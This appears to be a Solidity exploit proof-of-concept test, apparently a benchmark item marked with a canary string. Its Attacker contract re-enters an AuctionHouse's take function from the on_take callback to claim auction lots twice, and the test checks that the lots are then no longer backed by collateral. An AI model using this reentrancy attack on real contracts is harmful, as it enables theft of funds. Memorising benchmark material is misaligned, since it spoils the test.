// SPDX-License-Identifier: AGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-19c91a33-13db-4307-8ceb-653928c9b402
import "../Base.sol";

contract Attacker is ITaker {
    AuctionHouse private house;

    function run(IERC20 usdc, PegModule peg, AuctionHouse house_) external {
        house = house_;
        usdc.approve(address(peg), type(uint256).max);
        peg.dollar().approve(address(house), type(uint256).max);
        peg.swap_in(50_000e6, address(this));
        house.take(1, 10e18, type(uint256).max, address(this), "again");
    }

    function on_take(address, uint256, uint256, bytes calldata) external {
        house.take(1, 10e18, type(uint256).max, address(this), "");
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
        usdc.mint(address(other), 50_000e6);
    }

    function exploit() public {
        other.run(usdc, peg, house);
    }

    function test_Exploit() public {
        exploit();
        require(!backed(), "every lot is there");
    }

    /// The house owns the lots of all sales.
    function backed() public view returns (bool) {
        uint256 lots;
        for (uint256 id = 1; id <= house.last_id(); id++) {
            lots += house.sale_of(id).lot;
        }
        return lots <= ledger.free_of(WETH_A, address(house));
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
